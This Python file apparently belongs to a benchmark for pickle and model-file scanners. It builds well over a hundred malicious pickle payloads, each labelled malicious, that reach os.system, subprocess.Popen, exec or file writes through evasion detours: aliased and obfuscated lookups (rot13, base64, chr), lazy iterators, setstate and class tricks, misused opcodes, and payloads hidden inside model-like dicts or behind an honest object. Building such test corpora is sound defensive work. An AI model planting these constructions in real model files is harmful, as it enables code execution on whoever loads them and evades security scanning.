"""Pickles that reach a payload by a detour: aliases, descriptors, lazy iterators, attribute writes, opcodes misused.

Each is loaded with ``pickle.load``. What one detour hides from a list of names, an interpreter of the machine sees.
"""

from __future__ import annotations

import pickle
from collections.abc import Iterator

from benchmarks.inspect.corpus.assemble import (
    Code,
    attribute,
    build,
    call,
    dotted,
    first_of,
    module,
    name,
    program,
    push,
)
from benchmarks.inspect.corpus.cases import COMMAND, MARKER, PYTHON, Case
from benchmarks.inspect.corpus.gadgets import CODE, OTHER

SYSTEM = name("posix", "system")
OS = module("os")
MAP = call(name("builtins", "map"), SYSTEM, [COMMAND])
CALL_SYSTEM = f"__import__('os').system({COMMAND!r})"
FUNCTION = call(name("types", "FunctionType"), CODE, {})
POPEN = ["/bin/sh", "-c", COMMAND]


def _callables() -> dict[str, Code]:  # long: one table, read as one
    """Ways to get hold of what is then called with the command."""
    return {
        "getattr": attribute(OS, "system"),
        "getattr-import": attribute(call(name("builtins", "__import__"), "os"), "system"),
        "getattr-computed": attribute(OS, call(attribute(push("sys{}"), "format"), "tem")),  # type: ignore[arg-type]
        "attrgetter": call(call(name("operator", "attrgetter"), "system"), OS),
        "attrgetter-dotted": call(call(name("operator", "attrgetter"), "os.system"), module("shutil")),
        "attrgetter-private-name": call(call(name("_operator", "attrgetter"), "system"), OS),
        "itemgetter-dict": call(call(name("operator", "itemgetter"), "system"), attribute(OS, "__dict__")),
        "getitem-dict": call(name("_operator", "getitem"), attribute(OS, "__dict__"), "system"),
        "dict-get": call(attribute(attribute(OS, "__dict__"), "get"), "system"),
        "dict-pop": call(name("builtins", "dict.pop"), attribute(OS, "__dict__"), "system"),
        "vars-get": call(attribute(call(name("builtins", "vars"), OS), "get"), "system"),
        "sys-modules": attribute(call(name("operator", "getitem"), name("sys", "modules"), "os"), "system"),
        "sys-modules-get": attribute(call(dotted("sys", "modules.get"), "os"), "system"),
        "dotted-shutil": dotted("shutil", "os.system"),
        "dotted-numpy": dotted("numpy", "f2py.os.system"),
        "dotted-logging": dotted("logging", "os.system"),
        "dotted-tempfile": dotted("tempfile", "_os.system"),
        "dotted-random": dotted("random", "_os.system"),
        "dotted-pickle": dotted("pickle", "sys.modules.get"),
        "dotted-torch": dotted("torch", "os.system"),
        "dotted-torch-serialization": dotted("torch.serialization", "os.system"),
        "dotted-joblib": dotted("joblib.numpy_pickle", "os.system"),
        "dotted-sklearn": dotted("sklearn.utils", "os.system"),
        "dotted-sklearn-base": dotted("sklearn.datasets._base", "os.system"),
        "dotted-pandas": dotted("pandas.io.common", "os.system"),
        "dotted-collections": dotted("collections", "_sys.modules.get"),
        "dotted-globals": call(dotted("shutil", "copyfile.__globals__.get"), "os"),
        "globals-of-function": attribute(call(dotted("shutil", "copyfile.__globals__.get"), "os"), "system"),
        "class-globals": attribute(
            call(dotted("os", "_wrap_close.__init__.__globals__.__getitem__"), "system"), "__call__"
        ),
        "dunder-getattribute": call(dotted("builtins", "object.__getattribute__"), OS, "system"),
        "module-getattribute": call(dotted("types", "ModuleType.__getattribute__"), OS, "system"),
        "type-getattribute": call(dotted("builtins", "type.__getattribute__"), name("subprocess", "Popen"), "__call__"),
        "computed-global": dotted(
            call(attribute(push("so"), "__getitem__"), call(name("builtins", "slice"), None, None, -1)), "system"
        ),
        "computed-replace": dotted(call(attribute(push("oxs"), "replace"), "x", ""), "system"),
        "computed-join": dotted("os", call(attribute(push(""), "join"), ["sys", "tem"])),
        "computed-rot13": dotted("os", call(name("_codecs", "decode"), "flfgrz", "rot13")),
        "computed-base64": dotted(
            "os", call(name("codecs", "decode"), call(name("base64", "b64decode"), "c3lzdGVt"), "ascii")
        ),
        "computed-chr": dotted(
            "os",
            call(
                attribute(push(""), "join"),
                call(name("builtins", "map"), name("builtins", "chr"), [115, 121, 115, 116, 101, 109]),
            ),
        ),
        "resolve-name": call(name("pkgutil", "resolve_name"), "os:system"),
        "pydoc-locate": call(name("pydoc", "locate"), "os.system"),
        "logging-resolve": call(name("logging.config", "_resolve"), "os.system"),
        "unittest-importer": attribute(call(name("unittest.mock", "_importer"), "os"), "system"),
        "pickle-getattribute": call(name("pickle", "_getattribute"), OS, "system"),
        "pickle-find-class": call(
            dotted("_pickle", "Unpickler.find_class"),
            call(name("_pickle", "Unpickler"), call(name("_io", "BytesIO"), b"")),
            "os",
            "system",
        ),
        "partial-empty": call(name("functools", "partial"), SYSTEM),
        "method-type": call(name("types", "MethodType"), SYSTEM, COMMAND),
        "staticmethod-get": call(
            dotted("builtins", "staticmethod.__get__"),
            call(name("builtins", "staticmethod"), SYSTEM),
            None,
            name("builtins", "str"),
        ),
        "singledispatch": call(name("functools", "singledispatch"), SYSTEM),
        "lru-cache": call(call(name("functools", "lru_cache"), 1), SYSTEM),
        "wraps": call(call(name("functools", "wraps"), name("builtins", "print")), SYSTEM),
        "numpy-vectorize": call(name("numpy", "vectorize"), SYSTEM),
        "numpy-frompyfunc": call(name("numpy", "frompyfunc"), SYSTEM, 1, 1),
        "joblib-delayed": call(name("joblib.parallel", "BatchedCalls"), [(SYSTEM, (COMMAND,), {})], None),
        "ctypes-cdll": attribute(call(name("ctypes", "CDLL"), None), "system"),
        "weak-method": call(name("weakref", "proxy"), SYSTEM),
        "getattr-static": call(name("inspect", "getattr_static"), OS, "system"),
        "unwrap": call(name("inspect", "unwrap"), SYSTEM),
        "next-iter": call(name("builtins", "next"), call(name("builtins", "iter"), [SYSTEM])),
        "identity-max": call(name("builtins", "max"), [SYSTEM]),
        "copy-copy": call(name("copy", "copy"), SYSTEM),
        "reduce-getattr": call(name("functools", "reduce"), name("builtins", "getattr"), ["system"], OS),
        "choice": call(name("random", "choice"), [SYSTEM]),
        "deque-pop": call(attribute(call(name("collections", "deque"), [SYSTEM]), "pop")),
        "list-pop": call(attribute(push([SYSTEM]), "pop")),
        "namespace": attribute(build(call(name("types", "SimpleNamespace")), {"f": SYSTEM}), "f"),
        "defaultdict-missing": call(attribute(call(name("collections", "defaultdict"), SYSTEM), "get"), "x", SYSTEM),
        "chainmap": call(
            name("operator", "getitem"), call(name("collections", "ChainMap"), attribute(OS, "__dict__")), "system"
        ),
        "memo": Code(SYSTEM + b"q\x07" + b"0" + b"h\x07"),
        "memo-by-later-number": Code(
            name("builtins", "print") + b"q\x05" + b"0" + SYSTEM + b"q\x05" + b"0" + b"j\x05\0\0\0"
        ),
        "dup": Code(SYSTEM + b"2" + b"0"),
        "pop-mark": Code(SYSTEM + b"(I1\nI2\n1"),
        "numpy-object-item": call(attribute(call(name("numpy", "array"), [SYSTEM]), "item"), 0),
    }


def _whole() -> dict[str, Code]:  # long: one table, read as one
    """Programs whose last act runs the payload by itself."""
    return {
        "list-map": call(name("builtins", "list"), MAP),
        "tuple-map": call(name("builtins", "tuple"), MAP),
        "set-map": call(name("builtins", "set"), MAP),
        "bytes-map": call(name("builtins", "bytes"), MAP),
        "bytearray-map": call(name("builtins", "bytearray"), MAP),
        "deque-map": call(name("collections", "deque"), MAP),
        "counter-map": call(name("collections", "Counter"), MAP),
        "ordered-dict-map": call(name("collections", "OrderedDict"), MAP),
        "array-map": call(name("array", "array"), "i", MAP),
        "sum-map": call(name("builtins", "sum"), MAP),
        "any-map": call(name("builtins", "any"), MAP),
        "max-map": call(name("builtins", "max"), MAP),
        "sorted-map": call(name("builtins", "sorted"), MAP),
        "join-map": call(attribute(push(""), "join"), MAP),
        "dict-update-map": call(dotted("builtins", "dict.fromkeys"), MAP),
        "list-extend-map": call(attribute(push([]), "extend"), MAP),
        "set-update-map": call(attribute(call(name("builtins", "set")), "update"), MAP),
        "new-tuple-map": Code(name("builtins", "tuple") + push((MAP,)) + b"\x81"),
        "newobj-frozenset-map": Code(name("builtins", "frozenset") + push((MAP,)) + b"\x81"),
        "newobj-ex-bytes-map": Code(name("builtins", "bytes") + push((MAP,)) + push({}) + b"\x92"),
        "filter-list": call(name("builtins", "list"), call(name("builtins", "filter"), SYSTEM, [COMMAND])),
        "starmap": call(name("builtins", "list"), call(name("itertools", "starmap"), SYSTEM, [(COMMAND,)])),
        "accumulate": call(
            name("builtins", "list"), call(name("itertools", "accumulate"), [PYTHON, {}], name("builtins", "exec"))
        ),
        "takewhile": call(name("builtins", "list"), call(name("itertools", "takewhile"), SYSTEM, [COMMAND])),
        "dropwhile": call(name("builtins", "list"), call(name("itertools", "dropwhile"), SYSTEM, [COMMAND])),
        "filterfalse": call(name("builtins", "list"), call(name("itertools", "filterfalse"), SYSTEM, [COMMAND])),
        "groupby": call(name("builtins", "list"), call(name("itertools", "groupby"), [COMMAND], SYSTEM)),
        "iter-sentinel": call(
            name("builtins", "list"),
            call(name("builtins", "iter"), call(name("functools", "partial"), SYSTEM, COMMAND), 0),
        ),
        "zip-map": call(name("builtins", "list"), call(name("builtins", "zip"), MAP)),
        "unpack-map": call(name("operator", "contains"), MAP, 5),
        "countof-map": call(name("operator", "countOf"), MAP, 5),
        "reduce-exec": call(name("functools", "reduce"), name("builtins", "exec"), [PYTHON, {}]),
        "partial": call(call(name("functools", "partial"), SYSTEM, COMMAND)),
        "partial-of-partial": call(
            call(name("functools", "partial"), call(name("functools", "partial"), SYSTEM), COMMAND)
        ),
        "partial-setstate": call(
            build(call(name("functools", "partial"), name("builtins", "print")), (SYSTEM, (COMMAND,), {}, {}))
        ),
        "methodcaller": call(call(name("operator", "methodcaller"), "system", COMMAND), OS),
        "methodcaller-popen": call(call(name("operator", "methodcaller"), "__call__", COMMAND), SYSTEM),
        "operator-call": call(name("operator", "call"), SYSTEM, COMMAND),
        "defaultdict-missing-call": call(
            dotted("collections", "defaultdict.__missing__"),
            call(name("collections", "defaultdict"), call(name("functools", "partial"), SYSTEM, COMMAND)),
            "x",
        ),
        "property-get": call(
            dotted("builtins", "property.__get__"), call(name("builtins", "property"), SYSTEM), COMMAND
        ),
        "cached-property-func": call(attribute(call(name("functools", "cached_property"), SYSTEM), "func"), COMMAND),
        "function-type": call(FUNCTION),
        "lambda-type": call(call(dotted("types", "LambdaType"), CODE, {})),
        "function-from-type-of": call(call(call(name("builtins", "type"), name("shutil", "copyfile")), CODE, {})),
        "code-into-function": call(build(name("shutil", "copyfileobj"), (None, {"__code__": CODE}))),
        "exec-of-code": call(name("builtins", "exec"), CODE),
        "runcode": call(attribute(call(name("code", "InteractiveInterpreter")), "runcode"), CODE),
        "runsource": call(attribute(call(name("code", "InteractiveInterpreter")), "runsource"), PYTHON),
        "console-push": call(attribute(call(name("code", "InteractiveConsole")), "push"), PYTHON),
        "bdb-run": call(attribute(call(name("bdb", "Bdb")), "runeval"), CALL_SYSTEM),
        "trace-run": call(attribute(call(name("trace", "Trace")), "run"), PYTHON),
        "profile-run": call(attribute(call(name("profile", "Profile")), "run"), PYTHON),
        "cprofile-run": call(attribute(call(name("cProfile", "Profile")), "run"), PYTHON),
        "timer-timeit": call(attribute(call(name("timeit", "Timer"), PYTHON), "timeit"), 1),
        "thread-start": call(attribute(call(name("threading", "Thread"), None, SYSTEM, None, (COMMAND,)), "run")),
        "timer-run": call(attribute(call(name("threading", "Timer"), 0, SYSTEM, [COMMAND]), "run")),
        "process-run": call(attribute(call(name("multiprocessing", "Process"), None, SYSTEM, None, (COMMAND,)), "run")),
        "executor-submit": call(
            attribute(call(name("concurrent.futures", "ThreadPoolExecutor")), "submit"), SYSTEM, COMMAND
        ),
        "exit-stack": call(attribute(first_of(call(name("contextlib", "ExitStack"))), "callback"), SYSTEM, COMMAND),
        "context-run": call(attribute(call(name("contextvars", "Context")), "run"), SYSTEM, COMMAND),
        "cookie-morsel": call(name("builtins", "eval"), call(attribute(push("{}"), "format"), CALL_SYSTEM)),
        "eval-via-map": call(
            name("builtins", "list"), call(name("builtins", "map"), name("builtins", "eval"), [CALL_SYSTEM])
        ),
        "completer-eval": call(attribute(call(name("rlcompleter", "Completer"), {}), "attr_matches"), "copyright.x"),
        "forward-ref": call(
            attribute(call(name("typing", "ForwardRef"), CALL_SYSTEM), "_evaluate"),
            None,
            {},
            call(name("builtins", "frozenset")),
        ),
        "get-type-hints": call(
            name("typing", "get_type_hints"),
            build(call(name("types", "SimpleNamespace")), {"__annotations__": {"x": CALL_SYSTEM}}),
            {},
        ),
        "source-loader": call(
            attribute(call(name("importlib.machinery", "SourceFileLoader"), "x", "delivered.py"), "load_module")
        ),
        "module-finder": call(attribute(call(name("modulefinder", "ModuleFinder")), "run_script"), "delivered.py"),
        "unpickler-load": call(
            attribute(call(name("pickle", "Unpickler"), call(name("_io", "BytesIO"), OTHER)), "load")
        ),
        "unpickler-load-c": call(
            attribute(call(name("_pickle", "Unpickler"), call(name("_io", "BytesIO"), OTHER)), "load")
        ),
        "path-write": call(attribute(call(name("pathlib", "Path"), MARKER), "write_text"), "x"),
        "path-unlink": call(attribute(call(name("pathlib", "PosixPath"), "delivered.py"), "unlink")),
        "path-read": call(attribute(call(name("pathlib", "PosixPath"), "/etc/hostname"), "read_text")),
        "path-open-dotted": call(dotted("pathlib", "Path.open"), call(name("pathlib", "PosixPath"), MARKER), "w"),
        "file-handler": call(attribute(call(name("_io", "FileIO"), MARKER, "w"), "write"), b"x"),
        "array-tofile": call(attribute(call(name("numpy", "zeros"), 4), "tofile"), MARKER),
        "ndarray-dump": call(attribute(call(name("numpy", "zeros"), 4), "dump"), MARKER),
        "dataframe-to-csv": call(attribute(call(name("pandas", "DataFrame")), "to_csv"), MARKER),
        "dataframe-apply": call(attribute(call(name("pandas", "Series"), [COMMAND]), "map"), SYSTEM),
        "dataframe-query": call(
            attribute(call(name("pandas", "DataFrame")), "eval"), f"@__builtins__.eval({CALL_SYSTEM!r})"
        ),
        "environ-update": call(attribute(attribute(OS, "environ"), "update"), {"LD_PRELOAD": "x"}),
        "sys-path": call(attribute(name("sys", "path"), "append"), "/tmp"),
        "setattr-builtins": call(name("builtins", "setattr"), module("builtins"), "ww_marker", 1),
        "build-on-module": build(module("builtins"), {"ww_marker": 1}),
        "build-on-class": build(name("json", "JSONDecoder"), (None, {"decode": SYSTEM})),
        "build-on-function": build(name("json", "loads"), (None, {"__code__": CODE})),
        "build-modules": Code(name("sys", "modules") + push("json") + OS + b"s"),
        "setitem-globals": Code(dotted("shutil", "copyfile.__globals__") + push("ww_marker") + SYSTEM + b"s"),
        "append-calls-extend": Code(call(name("array", "array"), "i") + b"(" + push(1) + call(SYSTEM, COMMAND) + b"e"),
        "class-with-reduce": call(
            call(name("builtins", "type"), "X", (name("builtins", "object"),), {"__call__": FUNCTION}),
            call(SYSTEM, COMMAND),
        ),
        "class-init": call(
            call(
                name("builtins", "type"),
                "X",
                (name("builtins", "str"),),
                {"__init__": call(name("functools", "partial"), SYSTEM, COMMAND)},
            ),
            "x",
        ),
        "class-setstate": build(
            call(
                call(
                    name("builtins", "type"),
                    "X",
                    (name("builtins", "object"),),
                    {"__setstate__": call(name("builtins", "staticmethod"), SYSTEM)},
                )
            ),
            COMMAND,
        ),
        "class-getattr": attribute(
            call(
                call(
                    name("builtins", "type"),
                    "X",
                    (name("builtins", "object"),),
                    {"__getattr__": call(name("builtins", "staticmethod"), SYSTEM)},
                )
            ),
            COMMAND,
        ),
        "class-hash-key": Code(
            b"}"
            + call(
                call(
                    name("builtins", "type"),
                    "X",
                    (name("builtins", "object"),),
                    {"__hash__": call(name("functools", "partial"), SYSTEM, COMMAND)},
                )
            )
            + b"I1\ns"
        ),
        "class-append": Code(build(call(name("types", "SimpleNamespace")), {"append": SYSTEM}) + push(COMMAND) + b"a"),
        "namespace-extend": Code(
            build(call(name("types", "SimpleNamespace")), {"extend": name("builtins", "list"), "append": SYSTEM})
            + b"("
            + push(COMMAND)
            + b"e"
        ),
        "namespace-add": Code(
            build(call(name("types", "SimpleNamespace")), {"add": SYSTEM}) + b"(" + push(COMMAND) + b"\x90"
        ),
        "namespace-setstate": build(build(call(name("types", "SimpleNamespace")), {"__setstate__": SYSTEM}), COMMAND),
        "callable-setstate-slot": build(build(call(name("argparse", "Namespace")), {"__setstate__": SYSTEM}), COMMAND),
        "exception-setstate": build(build(call(name("builtins", "Exception")), {"__setstate__": SYSTEM}), COMMAND),
        "copyreg-reconstructor": call(
            name("copyreg", "_reconstructor"), name("subprocess", "Popen"), name("builtins", "object"), None
        ),
        "copyreg-newobj": call(call(name("copyreg", "__newobj__"), name("functools", "partial"), SYSTEM, COMMAND)),
        "extension-registry": Code(
            call(name("copyreg", "add_extension"), "posix", "system", 200)
            + b"0"
            + b"\x82\xc8"
            + push((COMMAND,))
            + b"R"
        ),
        "extension-inverted": Code(
            Code(name("copyreg", "_inverted_registry") + push(201) + push(("posix", "system")) + b"s0")
            + b"\x82\xc9"
            + push((COMMAND,))
            + b"R"
        ),
        "newobj-popen": Code(name("subprocess", "Popen") + b")\x81" + b"0" + call(name("subprocess", "Popen"), POPEN)),
        "inst-opcode": Code(b"(" + push(COMMAND) + b"iposix\nsystem\n"),
        "obj-opcode": Code(b"(" + SYSTEM + push(COMMAND) + b"o"),
        "obj-class": Code(b"(" + name("subprocess", "Popen") + push(POPEN) + b"o"),
        "inst-class": Code(b"(" + push(POPEN) + b"isubprocess\nPopen\n"),
        "print-file": call(
            name("builtins", "list"), call(name("builtins", "map"), name("builtins", "open"), [MARKER], ["w"])
        ),
        "logger-handler": call(attribute(call(name("logging", "FileHandler"), MARKER), "close")),
        "log-config-ext": call(
            attribute(
                call(
                    name("logging.config", "DictConfigurator"),
                    {"version": 1, "formatters": {"f": {"()": "os.system", "command": COMMAND}}},
                ),
                "configure",
            )
        ),
        "string-format-globals": call(attribute(push("{0.__class__}"), "format"), OS),
        "decorator-getattr": call(attribute(attribute(name("shutil", "copyfile"), "__globals__"), "get"), "os"),
        "gzip-write": call(attribute(call(name("gzip", "GzipFile"), MARKER, "w"), "close")),
        "sqlite-exec": call(attribute(call(name("sqlite3", "connect"), MARKER), "execute"), "create table x (y)"),
        "socket-connect": call(attribute(call(name("socket", "socket")), "connect"), ("127.0.0.1", 9)),
        "http-request": call(
            attribute(call(name("http.client", "HTTPConnection"), "127.0.0.1", 9), "request"), "GET", "/"
        ),
        "asyncio-run": call(name("asyncio", "run"), call(name("asyncio", "create_subprocess_shell"), COMMAND)),
        "grammar-load": call(attribute(call(name("lib2to3.pgen2.grammar", "Grammar")), "loads"), OTHER),
        "torch-shape-env": call(
            attribute(call(name("torch.fx.experimental.symbolic_shapes", "ShapeEnv")), "evaluate_guards_expression"),
            CALL_SYSTEM,
            [],
        ),
        "dict-config-class": call(
            name("logging.config", "dictConfig"),
            {
                "version": 1,
                "handlers": {"h": {"class": "logging.FileHandler", "filename": MARKER}},
                "root": {"handlers": ["h"]},
            },
        ),
    }


def _programs() -> dict[str, bytes]:  # long: one table, read as one
    """Whole streams: protocols, tails, repeats, what does not end well."""
    run = call(SYSTEM, COMMAND)
    bad = program(run)
    return {
        **{f"protocol-{n}": program(Code(b"cposix\nsystem\n(S'" + COMMAND.encode() + b"'\ntR"), n) for n in range(6)},
        "escaped-string": program(
            Code(b"cposix\nsystem\n(S'" + "".join(f"\\x{ord(c):02x}" for c in COMMAND).encode() + b"'\ntR"), 0
        ),
        "escaped-name-line": program(
            Code(push("po") + b"0" + b"V\\u0070osix\n" + push("system") + b"\x93" + push((COMMAND,)) + b"R")
        ),
        "then-truncated": bad[:-1],
        "then-junk-opcode": bad[:-1] + b"\xff\xff\xff.",
        "then-junk-after-stop": bad + b"\x00" * 64 + b"junk",
        "then-stack-underflow": bad[:-1] + b"000000.",
        "then-unknown-memo": bad[:-1] + b"h\x99.",
        "then-huge-length": bad[:-1] + b"\x8d" + b"\xff" * 7 + b"\x7f",
        "then-missing-module": bad[:-1] + b"cno_such_module\nx\n.",
        "then-bad-text": bad[:-1] + b"X\x02\0\0\0\xff\xfe.",
        "protocol-twice": b"\x80\x02\x80\x04" + run + b".",
        "no-protocol-with-new-opcodes": program(call(dotted("posix", "system"), COMMAND), 0),
        "frame-lies": b"\x80\x04\x95" + (len(run) + 1).to_bytes(8, "little") + run + b".",
        "frame-empty": b"\x80\x04\x95" + bytes(8) + run + b".",
        "after-many-numbers": program(Code(b"(" + b"K\x01" * 200_000 + b"1" + run)),
        "inside-a-list": program(push([1, "x", [2, run]])),
        "inside-a-dict": program(push({"weights": [0.5, 0.25], "meta": {"name": "model", "hook": run}})),
        "long-opcode-names": program(
            Code(b"\x8d\x05\0\0\0\0\0\0\0posix" + b"\x8c\x06system" + b"\x93" + push((COMMAND,)) + b"R")
        ),
        "bytes-names-fail": program(Code(b"cposix\nsystem\n" + push((COMMAND,)) + b"R" + b"C\x01x" + b"C\x01y\x93")),
        "popped-result": program(Code(run + b"0" + push({"a": 1}))),
        "honest-object-then-payload": pickle.dumps({"w": list(range(100))}, 4)[:-1] + b"0" + run + b".",
        "dict-as-honest-second": pickle.dumps([1.0] * 50, 4)[:-1] + run + b"0.",
    }


def cases() -> Iterator[Case]:
    groups = (
        ("alias", {key: program(call(code, COMMAND)) for key, code in _callables().items()}),
        ("chain", {key: program(code) for key, code in _whole().items()}),
        ("stream", _programs()),
    )
    for family, made in groups:
        for key, data in made.items():
            yield Case(f"{family}-{key}", "malicious", f"pickle, {family}", "pickle", (("model.pkl", data),))
    two = pickle.dumps({"a": 1}) + OTHER
    yield Case("stream-second-pickle", "malicious", "pickle, stream", "pickles", (("model.pkl", two),))
    gap = pickle.dumps([1]) + pickle.dumps(None) * 50 + OTHER + b"tail"
    yield Case("stream-late-pickle", "malicious", "pickle, stream", "pickles", (("model.pkl", gap),))
